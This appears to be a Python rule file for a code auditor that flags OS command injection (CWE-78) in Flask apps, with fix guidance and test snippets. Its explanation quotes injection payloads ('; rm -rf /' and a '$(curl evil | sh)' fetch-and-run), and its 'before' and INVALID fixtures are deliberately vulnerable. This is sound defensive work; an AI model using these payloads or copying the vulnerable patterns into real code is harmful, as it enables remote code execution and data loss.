from __future__ import annotations

from auditor.analysis.taint.rule import TaintRule
from auditor.model import Category, Confidence, Example, Severity


class CommandInjection(TaintRule):
    """Request data run by a shell, or chosen as the program to run."""

    id = "SEC102"
    kind = "command"
    title = "OS command built from request data"
    category = Category.SECURITY
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (78,)
    refs = (
        "https://cwe.mitre.org/data/definitions/78.html",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
    )
    supersedes = ("B602", "B603", "B604", "B605", "B606", "B607", "B609")
    effort = 30
    why = """
        The shell parses the whole string: `; rm -rf /`, `$(curl evil | sh)` or a backtick
        in the client's value runs whatever the attacker wants, as the service's user, on
        the server. With a tainted program name (`subprocess.run([prog, ...])`) the client
        picks the binary. Critical: remote code execution from one request.
        """
    fix = """
        Run a constant program with an argument list and no shell:
        `subprocess.run(["convert", src, dst], check=True)`; put `--` before data that
        could look like an option. If a shell is unavoidable, quote each value with
        `shlex.quote`. Better still, call a library instead of a command.
        """
    example = Example(
        before="""
            import os
            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/ping")
            def ping():
                host = request.form["host"]
                os.system("ping -c 1 " + host)
                return "sent"
            """,
        after="""
            import subprocess
            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/ping")
            def ping():
                host = request.form["host"]
                subprocess.run(["ping", "-c", "1", "--", host], check=True)
                return "sent"
            """,
    )
    VALID = [
        """
        import shlex
        import subprocess
        from flask import Flask, request

        app = Flask(__name__)

        @app.post("/zip")
        def zip_it():
            name = request.form["name"]
            subprocess.run(["zip", "-r", "out.zip", name])
            subprocess.run("zip -r out.zip " + shlex.quote(name), shell=True)
            subprocess.run("ls -l", shell=True)
            return "ok"
        """,
    ]
    INVALID = [
        """
        import subprocess
        from flask import Flask, request

        app = Flask(__name__)

        @app.post("/run")
        def run():
            tool = request.form["tool"]
            subprocess.run([tool, "--version"])  # expect
            subprocess.call("grep %s log.txt" % request.args["q"], shell=True)  # expect
            subprocess.run(["sh", "-c", "echo " + tool])  # expect
            return "ok"
        """,
    ]
